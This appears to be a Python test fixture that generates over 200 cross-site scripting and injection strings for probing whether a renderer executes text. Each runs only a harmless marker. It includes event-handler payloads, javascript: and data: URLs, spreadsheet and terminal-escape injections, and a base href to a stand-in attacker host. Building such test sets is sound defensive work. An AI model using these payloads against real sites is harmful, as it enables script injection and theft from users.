"""Texts that run, open or ask for something wherever a renderer takes them for more than text."""

import base64
import html

RUN = "window.taken=1"
EVENTS = [
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle",
    "onbegin", "onpointerenter", "onbeforeinput", "onscroll", "onwheel", "onpageshow",
]  # fmt: skip
TAGS = ["img", "svg", "body", "video", "audio", "details", "iframe", "object", "embed", "marquee",
        "input", "math", "style", "link"]  # fmt: skip
SHELLS = [
    "{}", '"{}', "'{}", "</td>{}", "</script>{}", "</style>{}", "</title>{}", "</textarea>{}",
    "<!--{}", "]]>{}", "\\{}", "${{{}}}", "{{{{{}}}}}", "`{}`", "</svg>{}", "\u2028{}", "%3c{}",
]  # fmt: skip
WHOLE = [
    f"javascript:{RUN}", f"[x](javascript:{RUN})", f"![x](x onerror={RUN})", f"<javascript:{RUN}>",
    f"data:text/html,<script>{RUN}</script>", f"'+({RUN})+'", f'"+({RUN})+"',
    f"\x1b]8;;javascript:{RUN}",
    f"=HYPERLINK(\"javascript:{RUN}\")", f"datum['constructor'].constructor('{RUN}')()",
    f"expr: {RUN}", "__proto__", "constructor", "toString", f"{{{{{RUN}}}}}", f"$${RUN}$$",
    "\\href{javascript:" + RUN + "}{x}", f"<a href=javascript:{RUN}>x</a>", "a.b[0]", "'][0]['x",
    f"<button data-commandlinker-command=console:create>{RUN}</button>", "\u202ereversed",
    f"<base href=//evil.invalid><script src=x.js>{RUN}</script>",
    "<meta http-equiv=refresh content=0>",
    f"<form action=javascript:{RUN}><input type=submit autofocus>",
    f"<svg><script>{RUN}</script></svg>",
    base64.b64encode(f"<script>{RUN}</script>".encode()).decode(),
]  # fmt: skip
PAYLOADS = [
    *(shell.format(f"<script>{RUN}</script>") for shell in SHELLS),
    *(shell.format(f"<img src=x onerror={RUN}>") for shell in SHELLS),
    *(f"<{tag} {event}={RUN} src=x autofocus>x" for tag in TAGS for event in EVENTS),
    *WHOLE,
    *(html.escape(payload) for payload in WHOLE),
]
assert len(PAYLOADS) >= 200
